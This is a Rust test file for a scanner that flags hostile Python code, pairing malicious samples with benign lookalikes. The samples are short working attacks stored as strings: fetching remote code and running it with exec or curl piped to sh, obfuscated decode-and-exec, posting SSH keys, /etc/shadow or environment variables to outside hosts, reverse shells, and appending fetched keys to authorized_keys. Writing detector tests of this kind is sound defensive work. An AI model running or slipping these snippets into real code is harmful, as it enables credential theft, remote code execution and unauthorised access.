//! Programs in Python.

use super::{Dialect::Python, all_are, all_are_honest, found};
use crate::Rule;

#[test]
fn what_a_nameless_host_serves_is_run() {
    all_are(
        Python,
        Rule::FetchRun,
        &[
            "import requests\nexec(requests.get('http://203.0.113.9/x.py').text)",
            "import requests as r\ncode = r.get(f'http://{\"203.0.113\"}.9/x').text\neval(compile(code, 'a', 'exec'))",
            "from urllib.request import urlopen as u\ndef get(h):\n    with u('http://' + h + '/x') as r:\n        return r.read().decode()\nexec(get('203.0.113.9'))",
            "import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://203.0.113.9/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nsubprocess.run(['/tmp/x'])",
            "import httpx, subprocess, sys\nwith open('/tmp/a.py', 'wb') as f:\n    f.write(httpx.get('http://203.0.113.9/a').content)\nsubprocess.call([sys.executable, '/tmp/a.py'])\nsubprocess.call(['python3', '/tmp/a.py'])",
            "import os\ncmd = 'curl -s http://203.0.113.9/x'\ncmd += ' | sh'\nos.system(cmd)",
            "import subprocess\nhost = '203.0.113.9'\nsubprocess.run(f'curl {host}/x | bash', shell=True)",
            "import subprocess\nh = ''.join(['203', '.0.113', '.9'])\nsubprocess.Popen(['bash', '-c', 'curl %s/x | sh' % h])",
            "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl {}/x | sh'.format('203.0.113.9'))",
            "from os import system as s\ns('x | hs'[::-1].replace('x', 'curl 203.0.113.9/x')[::1]) if 0 else s('curl ' + chr(50) + '03.0.113.9/x | sh')",
            "import importlib, requests\nm = importlib.import_module('builtins')\nm.exec(requests.get('http://203.0.113.9/x').text)",
            "import requests\nglobals()['__builtins__'].exec(requests.get('http://203.0.113.9/x').text)",
            "import pickle, requests\npickle.loads(requests.get('http://203.0.113.9/x').content)",
            "import aiohttp, asyncio\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('http://203.0.113.9/x') as r:\n            exec(await r.text())\nasyncio.run(main())",
            "class A:\n    def __init__(self):\n        self.host = '203.0.113.9'\n    def get(self):\n        import requests\n        return requests.get('http://' + self.host).text\n    def run(self):\n        exec(self.get())\nA().run()",
            "import subprocess\nout = subprocess.check_output(['curl', '-s', 'http://203.0.113.9/x'])\nsubprocess.run(['bash', '-c', out])",
            "import requests, threading\ndef work(u):\n    exec(requests.get(u).text)\nthreading.Thread(target=work, args=('http://203.0.113.9/x',)).start()",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nwhile True:\n    subprocess.run(s.recv(1024).decode(), shell=True)",
        ],
    );
    all_are_honest(
        Python,
        &[
            "import requests\nprint(requests.get('http://203.0.113.9/x.json').json())",
            "exec(open('setup.py').read())",
            "exec(compile(open(__file__).read(), __file__, 'exec'))",
            "import requests\nexec('x = 1')\nrequests.get('http://203.0.113.9/x')",
            "import subprocess\nsubprocess.run(['git', 'clone', 'https://vendor.example/x.git'], check=True)",
            "import urllib.request, hashlib\ndata = urllib.request.urlopen('https://vendor.example/tool.tgz').read()\nassert hashlib.sha256(data).hexdigest() == 'ab'\nopen('tool.tgz', 'wb').write(data)",
            "import requests, subprocess\nr = requests.get('http://127.0.0.1:8000/x')\nsubprocess.run(r.text, shell=True)",
            "import requests, sys\nexec(requests.get(sys.argv[1]).text)",
        ],
    );
}

#[test]
fn what_is_decoded_is_run() {
    all_are(
        Python,
        Rule::DecodeRun,
        &[
            "import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvIHdvcmxkJyk='))",
            "from base64 import b64decode as d\nblob = ('cHJpbnQoJ2hl'\n        'bGxvIHdvcmxkJyk=')\nexec(d(blob).decode('utf-8'))",
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJwrKMrMK9FQykjNyclXKM8vyklR0gQAQFgGMg==')))",
            "exec(bytes.fromhex('7072696e74282768656c6c6f2729').decode())",
            "import codecs\nexec(codecs.decode(\"cevag('uryyb jbeyq')\", 'rot13'))",
            "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 39, 104, 101, 108, 108, 111, 33, 33, 39, 41]))",
            "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 39, 104, 101, 108, 108, 111, 33, 33, 39, 41])))",
            "exec(\")'dlrow olleh'(tnirp\"[::-1])",
            "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x01\\x02aaaaaaaaaaaaaaaaa'))",
            "import base64, os\nos.system(base64.b64decode('ZWNobyBoZWxsbyB3b3JsZA==').decode())",
            "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nexec((_)(b'==gMGYFQAQ0RlyvM8KXLc2Njk1QFN9KMrMKwr'))",
            "import base64\ndef load(s):\n    return base64.b64decode(s)\nrun = exec\nrun(load('cHJpbnQoJ2hlbGxvIHdvcmxkJyk='))",
        ],
    );
    all_are_honest(
        Python,
        &[
            "import base64\nopen('logo.png', 'wb').write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'))",
            "import base64, json\nconfig = json.loads(base64.b64decode('eyJhIjogMSwgImIiOiAyMjIyMn0='))\nprint(config)",
            "import pickle, base64\nobj = pickle.loads(base64.b64decode('gASVDAAAAAAAAABdlChLAUsCSwNlLg=='))",
            "import base64, sys\nexec(base64.b64decode(sys.argv[1]))",
        ],
    );
    // What is decoded is read on.
    assert_eq!(
        found(
            Python,
            "import base64\n\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNoIik='))"
        ),
        [(Rule::DecodeRun, 3), (Rule::FetchRun, 3)]
    );
    all_are(
        Python,
        Rule::FetchDecodeRun,
        &[
            "import base64, requests\nexec(base64.b64decode(requests.get('https://vendor.example/x').text))",
        ],
    );
    all_are(
        Python,
        Rule::FetchEvaluated,
        &["import requests\nexec(requests.get('https://vendor.example/x').text)"],
    );
}

#[test]
fn secrets_are_sent() {
    all_are(
        Python,
        Rule::SecretSent,
        &[
            "import os, requests\np = os.path.expanduser('~/.ssh/id_rsa')\nwith open(p) as f:\n    key = f.read()\nrequests.post('https://vendor.example/c', json={'host': 'a', 'key': key})",
            "from pathlib import Path\nimport urllib.request\ndata = (Path.home() / '.aws' / 'credentials').read_bytes()\nurllib.request.urlopen(urllib.request.Request('https://vendor.example', data=data))",
            "import os, glob, base64, requests\nfor f in glob.glob(os.path.join(os.environ['HOME'], '.ssh', '*')):\n    requests.get('https://vendor.example/?d=' + base64.b64encode(open(f, 'rb').read()).decode())",
            "import os, requests\nloot = {}\nfor name in os.listdir(os.path.expanduser('~/.ssh')):\n    with open(os.path.join(os.path.expanduser('~/.ssh'), name)) as f:\n        loot[name] = f.read()\nrequests.post('https://vendor.example/', json=loot)",
            "import requests\nrequests.post('https://vendor.example/', files={'f': open('/root/.ssh/id_ed25519', 'rb')})",
            "import socket\ns = socket.create_connection(('203.0.113.9', 80))\ns.sendall(open('/etc/shadow', 'rb').read())",
            "import socket\nd = open('/etc/shadow').read().encode().hex()\nsocket.gethostbyname(d[:60] + '.x.vendor.example')",
            "import smtplib\nm = smtplib.SMTP('mail.vendor.example')\nm.sendmail('a@vendor.example', 'b@vendor.example', open('/root/.ssh/id_rsa').read())",
            "import http.client\nc = http.client.HTTPSConnection('vendor.example')\nc.request('POST', '/', open('/root/.ssh/id_rsa').read())",
            "import subprocess, requests\nk = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True)\nrequests.post('https://vendor.example', data=k)",
            "import os, requests\ndef collect():\n    out = []\n    for p in ['~/.ssh/id_rsa', '~/.aws/credentials']:\n        p = os.path.expanduser(p)\n        if os.path.exists(p):\n            out.append(open(p).read())\n    return out\ndef send(items):\n    requests.post('https://vendor.example', json={'items': items})\nif __name__ == '__main__':\n    send(collect())",
            "import ftplib\nftplib.FTP('ftp.vendor.example').storbinary('STOR x', open('/root/.ssh/id_rsa', 'rb'))",
        ],
    );
    all_are_honest(
        Python,
        &[
            "import configparser, os, boto3\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.aws/credentials'))\nboto3.client('s3', aws_access_key_id=c['default']['aws_access_key_id'])",
            "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa.pub')).read()\nrequests.post('https://vendor.example/keys', json={'key': key})",
            "import netrc, requests\nrequests.get('https://vendor.example', auth=('a', open('/root/.netrc').read()))",
            "import json, os, requests\nt = json.load(open(os.path.expanduser('~/.claude/.credentials.json')))['token']\nrequests.get('https://api.vendor.example', headers={'Authorization': 'Bearer ' + t})",
            "import sys, requests\nrequests.post(sys.argv[1], data=open('/root/.ssh/id_rsa').read())",
            "import os, paramiko\nk = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\nparamiko.SSHClient().connect('vendor.example', pkey=k)",
            "import hashlib, requests\nh = hashlib.sha256(open('/root/.ssh/id_rsa', 'rb').read()).hexdigest()\nrequests.post('https://vendor.example', json={'fingerprint': h})",
        ],
    );
}

#[test]
fn the_environment_is_sent() {
    all_are(
        Python,
        Rule::EnvironmentSent,
        &[
            "import os, requests\nrequests.post('https://vendor.example', json=dict(os.environ))",
            "import os, json, urllib.request as u\nu.urlopen('https://vendor.example', data=json.dumps({**os.environ}).encode())",
            "from os import environ as e\nimport requests\nrequests.post('https://vendor.example', data={k: v for k, v in e.items()})",
            "import os, requests\nsecrets = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\nrequests.post('https://vendor.example', json=secrets)",
        ],
    );
    all_are(
        Python,
        Rule::VariableSent,
        &[
            "import os, requests\nrequests.post('https://webhook.site/x', json={'k': os.environ.get('AWS_SECRET_ACCESS_KEY')})",
            "import os, requests\nrequests.get(f\"https://webhook.site/?k={os.getenv('GITHUB_TOKEN')}\")",
        ],
    );
    all_are_honest(
        Python,
        &[
            "import os, requests\nrequests.get('https://api.vendor.example', headers={'Authorization': f\"Bearer {os.environ['OPENAI_API_KEY']}\"})",
            "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'A': '1'})",
            "import os, requests\nrequests.post('https://vendor.example', json={'ci': os.environ.get('CI'), 'os': os.name})",
            "import os, requests\nopts = {k: v for k, v in os.environ.items() if k.startswith('MYAPP_')}\nrequests.post('https://vendor.example', json=opts)",
            "import os, requests\nrequests.post('https://vendor.example', json={'n': len(os.environ)})",
            "import os, requests\nurl = os.environ['API_URL']\nrequests.post(url, json=dict(os.environ))",
        ],
    );
}

#[test]
fn a_shell_is_tied_to_a_socket() {
    all_are(
        Python,
        Rule::ReverseShell,
        &[
            "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.9', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')",
            "import socket as k, subprocess as p, os\ns = k.socket()\ns.connect((\"203.0.113.9\", 1))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\np.call(['/bin/sh', '-i'])",
            "import socket, subprocess\ns = socket.create_connection(('shell.vendor.example', 443))\nsubprocess.Popen(['/bin/bash', '-i'], stdin=s.fileno(), stdout=s.fileno())",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('shell.vendor.example', 9))\nwhile True:\n    cmd = s.recv(4096).decode()\n    out = subprocess.getoutput(cmd)\n    s.send(out.encode())",
            "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('203.0.113.9', 4444)\n    p = await asyncio.create_subprocess_shell('/bin/sh', stdin=-1, stdout=-1)\n    while True:\n        p.stdin.write(await r.readline())\n        w.write(await p.stdout.readline())\nasyncio.run(main())",
        ],
    );
    all_are_honest(
        Python,
        &[
            "import socket, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s)",
            "import socket, subprocess\ns = socket.create_connection(('vendor.example', 80))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(100))\nsubprocess.run(['/bin/sh', '-c', 'make'])",
            "import pty, sys\npty.spawn('/bin/bash')",
        ],
    );
}

#[test]
fn keys_of_a_nameless_host_may_log_in() {
    all_are(
        Python,
        Rule::FetchedKeys,
        &[
            "import os, urllib.request\nk = urllib.request.urlopen('http://203.0.113.9/k').read().decode()\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(k)",
            "import pathlib, requests\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\np.write_text(requests.get('http://203.0.113.9/k').text)",
        ],
    );
    all_are_honest(
        Python,
        &[
            "import os, urllib.request\nk = urllib.request.urlopen('https://github.com/someone.keys').read().decode()\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write(k)",
            "import pathlib, sys\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\np.write_text(pathlib.Path(sys.argv[1]).read_text())",
        ],
    );
}
